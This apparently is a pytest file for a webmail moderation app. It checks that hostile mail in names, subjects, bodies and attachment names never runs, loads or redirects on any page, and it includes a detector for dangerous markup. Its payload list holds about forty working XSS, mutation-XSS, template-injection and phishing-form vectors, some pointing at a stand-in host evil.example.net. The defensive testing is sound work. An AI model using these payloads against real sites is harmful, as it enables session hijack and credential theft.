"""Hostile mail on every page that shows mail: nothing of it runs, loads, links where it should not or leaves its place.

The corpus is what attackers of webmail send: scripts in all their spellings, markup that changes its meaning when it is
read twice, ways out of an attribute, a textarea or a title, and templates. It stands in names, subjects, bodies and the
names of files. Each page is read as a browser reads it.
"""

import re
from collections.abc import Iterator
from email.message import EmailMessage
from email.utils import format_datetime

import pytest
from lxml import html

from tests.steps.world import NOON, STREAM
from tests.web.desk import COORDINATOR, GP, Desk
from tests.web.test_threads import open_form

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example.net/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example.net/x.swf>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>click</a>",
    "<a href='java&#9;script:alert(1)'>click</a>",
    "<a href='&#1;javascript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "<form action=//evil.example.net><input name=password><button>Sign in</button></form>",
    "<button form=edit formaction=//evil.example.net>Save</button>",
    "<base href=//evil.example.net/>",
    "<meta http-equiv=refresh content='0;url=//evil.example.net'>",
    "<link rel=stylesheet href=//evil.example.net/x.css>",
    "<style>@import '//evil.example.net/x.css'; body{background:url(//evil.example.net/x)}</style>",
    "<div style='background:url(javascript:alert(1))'>styled</div>",
    "<div style=position:fixed;inset:0;z-index:9>cover</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "</textarea><script>alert(1)</script><textarea>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<script>alert(1)</script>\u2029",
    "<a href='https://example.org/' onclick=alert(1) hx-get=//evil.example.net hx-trigger=load>htmx</a>",
    "<p hx-on:click=alert(1) data-hx-post=/message/1/discard hx-boost=true>htmx</p>",
    "<a id=edit name=said>clobbered</a><img name=getElementById>",
)

PAGES = ("/", "/threads", "/thread/{thread}", "/message/{message}/move", "/held", "/discarded", "/audit", "/members")


def hostile(number: int, vector: str, sender: str) -> bytes:
    """A question whose every part is the vector."""
    mail = EmailMessage()
    mail["From"], mail["To"] = f"{sender} <{sender.lower()}@example.org>", STREAM
    mail["Subject"] = f"Case {number} {vector}".replace("\u2028", " ").replace("\u2029", " ")
    mail["Date"], mail["Message-ID"] = format_datetime(NOON), f"<hostile-{number}-{sender}@example.org>"
    words = f"Does anybody know how to answer case {number} in practice?"
    mail.set_content(f"{words}\n\n{vector}\n\nThank you\n")
    mail.add_alternative(f"<p>{words}</p>\n{vector}\n<p>Thank you</p>", subtype="html")
    mail.add_attachment(b"x", maintype="text", subtype="html", filename=vector.replace("/", "_")[:60])
    return mail.as_bytes()


def wrong(page: str, styled: bool = False) -> Iterator[str]:
    """What in a page is none of ours; `styled`: it is a mail's HTML, which brings its own styles."""
    tree = html.document_fromstring(page)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag
        if tag == "script" and not re.fullmatch(r"/static/[\w./-]+\.js", element.get("src", "")):
            yield "a script"
        if tag in {
            "img",
            "object",
            "embed",
            "base",
            "math",
            "template",
            "noscript",
            "animate",
            "applet",
            "audio",
            "video",
        }:
            yield f"<{tag}>"
        if tag == "svg" and element.get("focusable") != "false" and element.get("aria-hidden") != "true":
            yield "<svg>"
        if tag == "style" and not styled:
            yield "<style>"
        if tag == "iframe" and not re.fullmatch(r"/edition/\d+/html", element.get("src", "")):
            yield "a frame"
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            yield "a refresh"
        target = element.get("action", element.get("formaction", ""))
        if tag in {"form", "button"} and not re.fullmatch(r"(/[\w/-]+)?", target):
            yield "a form that leads away"
        if tag == "link" and not element.get("href", "").startswith("/static/"):
            yield "a style sheet from elsewhere"
        for name, value in element.attrib.items():
            if name.lower().startswith(("on", "hx-on", "data-hx")) or (name == "style" and not styled):
                yield f"{name}={value}"
            if name.startswith("hx-") and "evil" in value:
                yield f"{name}={value}"
            if name in {"href", "src", "action", "formaction", "data", "srcdoc", "hx-get", "hx-post"}:
                # Browsers leave out tabs, line ends and leading controls (URL Standard, "basic URL parser").
                plain = re.sub(r"[\t\r\n]|^[\x00-\x20]+", "", value)
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain, re.IGNORECASE)
                if scheme and scheme[1].lower() not in {"http", "https", "mailto"}:
                    yield f"{name}={value}"
    if "49" in re.findall(r">\s*(49)\s*<", page) or "root:x:" in page:
        yield "a template was carried out"


@pytest.fixture
def under_attack(desk: Desk) -> Desk:
    """A thread for each vector by a member, and each again held, by a stranger."""
    desk.receive(*(hostile(n, v, "Gwen") for n, v in enumerate(VECTORS)))
    desk.receive(*(hostile(n, v, "Mallory") for n, v in enumerate(VECTORS)))
    return desk


def test_nothing_in_hostile_mail_runs_loads_or_leads_astray_on_any_page(under_attack: Desk) -> None:
    browser = under_attack.signed_in(COORDINATOR)
    issue = under_attack.edition()
    found: list[str] = []
    for number in range(1, len(VECTORS) + 1):
        for path in PAGES if number == 1 else ("/thread/{thread}", "/message/{message}/move"):
            at = path.format(thread=number, message=number)
            found += [f"{at}: {one}" for one in wrong(browser.get(at).text)]
    browser.post("/thread/1", data=open_form(browser) | {"note": VECTORS[28], "do": "save"})
    browser.post("/thread/1/describe", data={"title": VECTORS[29], "topic": [VECTORS[32]]})
    browser.post(f"/message/{len(VECTORS) + 1}/discard", data={"reason": VECTORS[0]})
    for at in ("/thread/1", "/thread/1/versions", "/thread/1/version/1", "/discarded", "/audit", f"/edition/{issue}"):
        found += [f"{at}: {one}" for one in wrong(browser.get(at).text)]
    frame = f"/edition/{issue}/html"
    found += [f"{frame}: {one}" for one in wrong(browser.get(frame).text, styled=True)]
    found += [f"members: {one}" for one in wrong(under_attack.signed_in(GP).get("/thread/2").text)]
    assert found == []


#: What harms only a browser that reads it twice, or a template engine, shows nothing when it is read once.
TWICE = ("<body", "<svg></p>", "<noscript>", "<math>", "{{", "<a id=edit", "<p hx", "&lt;", "<a href='&#1;")


@pytest.mark.parametrize("vector", [v for v in VECTORS if not v.startswith(TWICE)])
def test_the_check_itself_sees_what_it_must(vector: str) -> None:
    """Each vector, put into a page as it is, is found: the check above is not blind to it."""
    inside = f'<p title="{vector}">x</p>' if vector.startswith('"') else f"<p title='{vector}'>x</p><p>{vector}</p>"
    assert list(wrong(f"<!DOCTYPE html><html><body>{inside}</body></html>")), vector


def test_words_that_leave_a_textarea_come_back_as_words(desk: Desk) -> None:
    desk.receive(hostile(1, "</textarea><script>alert(1)</script>", "Gwen"))
    browser = desk.signed_in(COORDINATOR)
    note = "</textarea><script>alert(1)</script>"
    browser.post("/thread/1", data=open_form(browser) | {"note": note, "do": "save"})
    tree = html.document_fromstring(browser.get("/thread/1").text)
    assert [(t.text or "").strip() for t in tree.iter("textarea") if t.get("id") == "note"] == [note]
